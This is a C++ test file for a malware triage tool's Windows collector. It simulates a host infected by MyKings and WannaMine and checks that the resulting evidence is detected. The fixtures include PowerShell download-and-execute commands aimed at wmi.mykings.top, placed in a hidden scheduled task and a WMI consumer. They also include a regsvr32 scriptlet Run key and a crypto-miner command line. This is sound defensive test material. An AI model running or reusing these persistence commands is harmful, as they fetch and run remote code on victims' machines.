// The Windows collector (src/collect/windows) on a fixture host: the same collection code minesweep.exe runs, fed
// by a WindowsHost whose processes, registry and files the test chose. Files come from a MyKings triage tree
// (tests/support/windows_tree); the registry holds a WannaMine service and a MyKings Run key; the API calls that
// Wine and non-administrators are refused (RegSaveKeyEx, EvtExportLog) are refused here too. The bundle must then
// scan like any other evidence. The Wine test (wine_triage_test.cpp) runs the real minesweep.exe.
#include "collect/windows/windows_collector.h"

#include <map>
#include <set>

#include <gtest/gtest.h>
#include <nlohmann/json.hpp>

#include "core/hash.h"
#include "core/mapped_file.h"
#include "evidence/bundle.h"
#include "formats/regf/writer.h"
#include "support/bytes.h"
#include "support/test_support.h"
#include "support/windows_tree.h"

namespace msw {
namespace {

namespace fs = std::filesystem;
using namespace collect::windows;

std::string utf16z(std::string_view s) { return formats::regf::reg_sz(s); }

class FixtureHost final : public WindowsHost {
 public:
  explicit FixtureHost(fs::path volume) : volume_(std::move(volume)) {}

  void key(const std::string& path, std::vector<RegistryValue> values = {}) {
    auto& k = keys_[path];
    for (auto& v : values) k.values.push_back(std::move(v));
    const size_t slash = path.rfind('\\');
    if (slash == std::string::npos) return;
    const std::string parent = path.substr(0, slash), name = path.substr(slash + 1);
    key(parent);
    auto& subs = keys_[parent].subkeys;
    if (std::find(subs.begin(), subs.end(), name) == subs.end()) subs.push_back(name);
  }

  std::vector<ProcessInfo> process_list;
  std::vector<ConnectionInfo> connection_list;
  std::vector<ServiceInfo> service_list;

  SystemFacts facts() const override {
    return {"WIN-SERVER", "Windows Server 2008 R2 Enterprise", "6.1.7601", "C:\\Windows", false, 4242};
  }
  Result<std::vector<ProcessInfo>> processes(int) const override { return process_list; }
  Result<std::vector<ConnectionInfo>> connections() const override { return connection_list; }
  Result<std::vector<ServiceInfo>> services() const override { return service_list; }
  Result<std::vector<AccountInfo>> accounts() const override {
    return std::vector<AccountInfo>{{"Administrator", 500, false, true, true, 0, 0, {"Administrators"}},
                                    {"backup", 1001, false, false, false, 0, 60, {"Users"}},
                                    {"admin$", 1003, false, true, false, 0, 0, {"Administrators"}}};
  }
  Result<std::vector<AdapterInfo>> adapters() const override {
    return std::vector<AdapterInfo>{{"Ethernet0", {"10.0.0.10"}, {"223.5.5.5", "8.8.8.8"}}};
  }
  Result<std::vector<TaskDefinition>> scheduled_tasks() const override {
    const auto utf16 = [](const std::string& text) { return test::bytes::utf16_file(text); };
    // \Mysa is also in the folder; the second task's file is gone (a hidden task the service still runs).
    return std::vector<TaskDefinition>{
        {"\\Mysa", utf16("<Task/>")},
        {"\\Microsoft\\Windows\\Maintenance\\WinSAT2", utf16(R"xml(<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.2" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\Microsoft\Windows\Maintenance\WinSAT2</URI></RegistrationInfo>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>powershell.exe</Command><Arguments>-nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('http://wmi.mykings.top:8888/kill.html')"</Arguments></Exec></Actions>
</Task>)xml")}};
  }
  Result<std::vector<WmiObject>> wmi_subscriptions() const override {
    // MyKings' subscription as WMI lists it, plus a consumer class that runs nothing.
    return std::vector<WmiObject>{{"__EventFilter",
                                   {{"Name", "fuckyoumm3"},
                                    {"Query",
                                     "SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
                                     "'Win32_PerfFormattedData_PerfOS_System' AND TargetInstance.SystemUpTime >= 200"},
                                    {"QueryLanguage", "WQL"},
                                    {"EventNamespace", "root\\cimv2"}}},
                                  {"CommandLineEventConsumer",
                                   {{"Name", "fuckyoumm4"},
                                    {"CommandLineTemplate",
                                     "cmd /c powershell.exe -nop -c \"IEX (New-Object "
                                     "Net.WebClient).DownloadString('http://wmi.mykings.top:8888/test')\""}}},
                                  {"LogFileEventConsumer", {{"Name", "audit"}}},
                                  {"__FilterToConsumerBinding",
                                   {{"Filter", "__EventFilter.Name=\"fuckyoumm3\""},
                                    {"Consumer", "CommandLineEventConsumer.Name=\"fuckyoumm4\""}}}};
  }
  Result<RegistryKey> read_key(const std::string& path) const override {
    auto it = keys_.find(path);
    if (it == keys_.end()) return Error::make("registry.missing", path + " does not exist");
    return it->second;
  }
  Result<void> save_hive(const std::string& name, const fs::path&) const override {
    return Error::make("registry.save_refused",
                       "RegSaveKeyEx of HKLM\\" + name + ": A required privilege is not held by the client. (1314)");
  }
  Result<std::vector<std::string>> list(const std::string& folder) const override {
    std::error_code ec;
    std::vector<std::string> out;
    for (const auto& e : fs::directory_iterator(disk(folder), ec))
      out.push_back(e.path().filename().string() + (e.is_directory() ? "\\" : ""));
    if (ec) return Error::make("file.missing", folder + " does not exist");
    return out;
  }
  Result<std::string> copy_file(const std::string& path, const fs::path& out, uint64_t max_bytes) const override {
    std::error_code ec;
    if (!fs::is_regular_file(disk(path))) return Error::make("file.missing", path + " does not exist");
    if (fs::file_size(disk(path)) > max_bytes) return Error::make("file.too_large", path + " is over the cap");
    fs::copy_file(disk(path), out, ec);
    if (ec) return Error::make("collect.write", ec.message());
    return sha256_file(out);
  }

  Result<void> export_log(const std::string&, const fs::path&) const override {
    return Error::make("eventlog.unavailable",
                       "EvtExportLog is not available on this system: Call not implemented (120)");
  }
  Result<std::string> read_boot_sectors(size_t bytes) const override {
    std::string mbr = test::read_file(volume_ / "disk/boot-sectors.bin");
    return mbr.substr(0, bytes);
  }
  Result<std::string> sha256_file(const fs::path& path) const override {
    auto f = MappedFile::open(path.string());
    if (!f) return f.error();
    return sha256_hex(f->bytes());
  }
  Result<std::string> sha256_host_file(const std::string& path) const override { return sha256_file(disk(path)); }

 private:
  // "C:\\Windows\\x" → VOLUME/C/Windows/x, as the MyKings tree lays it out.
  fs::path disk(const std::string& windows_path) const {
    std::string rel = windows_path.substr(0, 1);
    for (char c : windows_path.substr(2)) rel += c == '\\' ? '/' : c;
    return volume_ / rel;
  }
  fs::path volume_;
  std::map<std::string, RegistryKey> keys_;
};

RegistryValue sz(std::string name, std::string_view v) { return {std::move(name), 1, utf16z(v)}; }
RegistryValue dw(std::string name, uint32_t v) { return {std::move(name), 4, formats::regf::reg_dword(v)}; }

test::RunResult ms(std::vector<std::string> args) {
  args.insert(args.begin(), MSW_BINARY);
  return test::run(args);
}

TEST(WindowsCollector, FixtureHostBecomesABundleThatScans) {
  test::TempDir dir;
  test::write_windows_tree(dir / "volume", test::WindowsScenario::MyKings);
  FixtureHost host(dir / "volume");
  const std::string miner = "C:\\Windows\\Fonts\\svchost.exe";
  test::write_file(dir / "volume/C/Windows/Fonts/svchost.exe", "MZ a stand-in for a miner");
  test::write_file(dir / "volume/C/Users/Public/updater.exe", "MZ a stand-in for a dropper");
  host.process_list = {{4, 0, "System", "", "", "NT AUTHORITY\\SYSTEM", 0, 10, 0, 0, 100, ""},
                       {696, 500, "svchost.exe", miner,
                        miner + " -o stratum+tcp://pool.supportxmr.com:3333 -u "
                                "44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3"
                                "RVGQBEP3A -p x --donate-level 1",
                        "NT AUTHORITY\\SYSTEM", 1551000000, 5000, 97.5, 300000, 8, "unsigned"},
                       {4242, 1, "minesweep.exe", "C:\\Users\\alice\\minesweep.exe", "minesweep.exe triage",
                        "WIN-SERVER\\alice", 0, 0, 0, 0, 1, ""}};
  host.connection_list = {{"tcp", "10.0.0.10", "45.9.148.3", 49721, 3333, "ESTABLISHED", 696},
                          {"tcp", "0.0.0.0", "0.0.0.0", 445, 0, "LISTEN", 4}};
  host.service_list = {{"SecureRPCManager", "Secure RPC Manager", "C:\\Windows\\system32\\svchost.exe -k netsvcs",
                        "C:\\Windows\\system32\\SecureRPCManager.dll", "auto", "LocalSystem", "running", 700}};
  const std::string services = "SYSTEM\\CurrentControlSet\\Services\\";
  host.key(services + "SecureRPCManager", {sz("ImagePath", "%SystemRoot%\\system32\\svchost.exe -k netsvcs"),
                                           dw("Type", 0x20), dw("Start", 2), sz("DisplayName", "Secure RPC Manager")});
  host.key(services + "SecureRPCManager\\Parameters",
           {{"ServiceDll", 2, utf16z("C:\\Windows\\system32\\SecureRPCManager.dll")}});
  host.key(services + "LanmanServer\\Parameters", {dw("SMB1", 1)});
  host.key("SYSTEM\\CurrentControlSet\\Control\\ComputerName\\ComputerName", {sz("ComputerName", "WIN-SERVER")});
  const std::string nt = "SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion";
  host.key(nt, {sz("ProductName", "Windows Server 2008 R2 Enterprise"), sz("CurrentVersion", "6.1"),
                sz("CurrentBuild", "7601"), sz("CSDVersion", "Service Pack 1")});
  host.key(nt + "\\ProfileList\\S-1-5-21-1-2-3-1001", {{"ProfileImagePath", 2, utf16z("C:\\Users\\alice")}});
  host.key("SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run",
           {sz("start", "regsvr32 /u /s /i:http://js.mykings.top:280/v.sct scrobj.dll")});
  host.key("HKU\\S-1-5-21-1-2-3-1001\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
           {sz("updater", "C:\\Users\\Public\\updater.exe /silent")});
  host.key("HKU\\S-1-5-21-1-2-3-1001_Classes");

  CollectOptions opts;
  opts.out_dir = (dir / "bundle").string();
  opts.tool_version = "test";
  opts.collected_at = "2026-11-22T09:00:00Z";
  auto m = collect_bundle(host, opts);
  ASSERT_TRUE(m) << m.error().message;

  // The manifest reads back and says what it holds.
  auto back = evidence::parse_manifest(as_bytes(std::string_view(test::read_file(dir / "bundle/manifest.json"))));
  ASSERT_TRUE(back) << back.error().message;
  EXPECT_EQ(back->platform, "windows");
  std::map<std::string, std::string> kinds;
  for (const auto& a : back->artefacts) kinds[a.path] = a.kind;
  EXPECT_EQ(kinds["tables/processes.jsonl"], "process_table");
  EXPECT_EQ(kinds["tables/connections.jsonl"], "connection_table");
  EXPECT_EQ(kinds["C/Windows/System32/config/SYSTEM"], "registry_hive");
  EXPECT_EQ(kinds["C/Windows/System32/config/SOFTWARE"], "registry_hive");
  EXPECT_EQ(kinds["C/Users/alice/NTUSER.DAT"], "registry_hive");
  EXPECT_EQ(kinds["C/Windows/System32/Tasks/Mysa"], "scheduled_task");
  EXPECT_EQ(kinds["C/Windows/System32/Tasks/Microsoft/Windows/Maintenance/WinSAT2"], "scheduled_task");
  EXPECT_EQ(kinds["C/Windows/System32/wbem/Repository/OBJECTS.DATA"], "wmi_repository");
  EXPECT_EQ(kinds["tables/wmi_subscriptions.jsonl"], "wmi_table");
  EXPECT_EQ(kinds["C/Windows/System32/drivers/etc/hosts"], "hosts");
  EXPECT_EQ(kinds["disk/PhysicalDrive0.bin"], "boot_record");
  EXPECT_EQ(kinds["C/Windows/Fonts/svchost.exe"], "file");      // the miner's image, copied for analysis
  EXPECT_EQ(kinds["C/Users/Public/updater.exe"], "file");       // a user's Run key target
  EXPECT_EQ(kinds.count("C/Users/alice/minesweep.exe"), 0u);    // not the collector itself
  EXPECT_EQ(kinds.count("C/Windows/System32/config/SAM"), 0u);  // refused, never rebuilt
  std::set<std::string> failed;
  for (const auto& f : back->failures) failed.insert(f.source);
  EXPECT_TRUE(failed.count("C:\\Windows\\System32\\config\\SAM"));
  EXPECT_TRUE(failed.count("event logs"));
  EXPECT_TRUE(failed.count("privileges"));
  for (const auto& a : back->artefacts) {
    if (a.path == "C/Windows/System32/config/SYSTEM") {
      EXPECT_NE(a.source.find("rebuilt from"), std::string::npos);
    }
    if (a.path == "C/Windows/System32/Tasks/Mysa") {
      EXPECT_EQ(a.source, "C:\\Windows\\System32\\Tasks\\Mysa");  // the file, not the service's copy
    }
  }

  // Scanned like any evidence: the miner and its pool, the WannaMine service, the Run keys, the MyKings tasks and
  // WMI subscription, the bootkit — and the rebuilt hives are parsed, not skipped.
  const std::string case_path = (dir / "case.sqlite").string();
  auto scan = ms({"scan", "--quiet", "--case", case_path, (dir / "bundle").string()});
  ASSERT_TRUE(scan.exit_code == 0 || scan.exit_code == 1) << scan.err;
  auto report = ms({"report", case_path, "--format", "json"});
  ASSERT_EQ(report.exit_code, 0) << report.err;
  const auto rep = nlohmann::json::parse(report.out);
  std::set<std::string> rules, cited;
  std::string families;
  for (const auto& f : rep["findings"]) {
    rules.insert(f["rule_id"].get<std::string>());
    families += f["family"].get<std::string>() + " ";
    for (const auto& e : f["evidence"]) cited.insert(e["path"].get<std::string>());
  }
  for (const char* rule : {"heuristic.miner_process", "heuristic.pool_port_connection"})
    EXPECT_TRUE(rules.count(rule)) << rule;
  EXPECT_NE(families.find("wannamine"), std::string::npos) << families;
  EXPECT_NE(families.find("mykings"), std::string::npos) << families;
  auto cited_like = [&](std::string_view part) {
    return std::any_of(cited.begin(), cited.end(),
                       [&](const std::string& c) { return c.find(part) != std::string::npos; });
  };
  EXPECT_TRUE(cited_like("config\\SYSTEM")) << "the rebuilt SYSTEM hive (WannaMine service) is not cited";
  EXPECT_TRUE(cited_like("config\\SOFTWARE")) << "the rebuilt SOFTWARE hive (Run key) is not cited";
  EXPECT_TRUE(cited_like("alice\\NTUSER.DAT")) << "the user's rebuilt hive (Run key) is not cited";
  EXPECT_TRUE(cited_like("Tasks\\Mysa")) << "the scheduled tasks are not cited";
  EXPECT_TRUE(cited_like("Task Scheduler: \\Microsoft\\Windows\\Maintenance\\WinSAT2"))
      << "the task only the Task Scheduler service listed is not cited";
  EXPECT_TRUE(cited_like("OBJECTS.DATA")) << "the WMI repository is not cited";
  EXPECT_TRUE(cited_like("root\\subscription")) << "the live WMI subscription is not cited";
  EXPECT_TRUE(rules.count("heuristic.local_account_suspicious")) << "the hidden admin$ account is not found";
  EXPECT_TRUE(cited_like("NetUserEnum")) << "the accounts table is not cited";
  EXPECT_TRUE(cited_like("PhysicalDrive0")) << "the boot sectors are not cited";
}

TEST(WindowsCollector, PathsInsideTheBundle) {
  EXPECT_EQ(bundle_path_for("C:\\Windows\\System32\\Tasks\\Mysa"), "C/Windows/System32/Tasks/Mysa");
  EXPECT_EQ(bundle_path_for("d:\\data\\x.exe"), "D/data/x.exe");
  EXPECT_EQ(bundle_path_for("C:\\Windows\\..\\..\\etc\\passwd"), "");
  EXPECT_EQ(bundle_path_for("\\\\server\\share\\x"), "");
  EXPECT_EQ(bundle_path_for("\\\\?\\C:\\x"), "");
  EXPECT_EQ(bundle_path_for("C:relative"), "");
  EXPECT_EQ(bundle_path_for("C:\\a\\\\b"), "");
  EXPECT_EQ(bundle_path_for("C:\\a/b"), "");
}

TEST(WindowsCollector, ExecutableOfACommand) {
  EXPECT_EQ(executable_of("\"C:\\Program Files\\App\\app.exe\" --run"), "C:\\Program Files\\App\\app.exe");
  EXPECT_EQ(executable_of("C:\\Program Files\\App\\app.exe --run"), "C:\\Program Files\\App\\app.exe");
  EXPECT_EQ(executable_of("C:\\Windows\\system32\\svchost.exe -k netsvcs"), "C:\\Windows\\system32\\svchost.exe");
  EXPECT_EQ(executable_of("C:\\Users\\Public\\a.dll,Start"), "C:\\Users\\Public\\a.dll");
  EXPECT_EQ(executable_of("C:\\tools\\run"), "C:\\tools\\run");
  EXPECT_EQ(executable_of("%SystemRoot%\\system32\\svchost.exe -k x"), "");
  EXPECT_EQ(executable_of("regsvr32 /s /i:http://x/v.sct scrobj.dll"), "");
  EXPECT_EQ(executable_of("\"unterminated"), "");
  EXPECT_EQ(executable_of(""), "");
}

TEST(WindowsCollector, UnusualImageLocations) {
  EXPECT_FALSE(is_unusual_image_location("C:\\Windows\\System32\\svchost.exe"));
  EXPECT_FALSE(is_unusual_image_location("C:\\Program Files (x86)\\App\\app.exe"));
  EXPECT_FALSE(is_unusual_image_location("C:\\Windows\\explorer.exe"));
  EXPECT_TRUE(is_unusual_image_location("C:\\Windows\\debug\\lsmose.exe"));
  EXPECT_TRUE(is_unusual_image_location("C:\\Windows\\System32\\Temp\\x.exe"));
  EXPECT_TRUE(is_unusual_image_location("C:\\ProgramData\\x.exe"));
  EXPECT_TRUE(is_unusual_image_location("c:\\users\\public\\a.exe"));
}

}  // namespace
}  // namespace msw
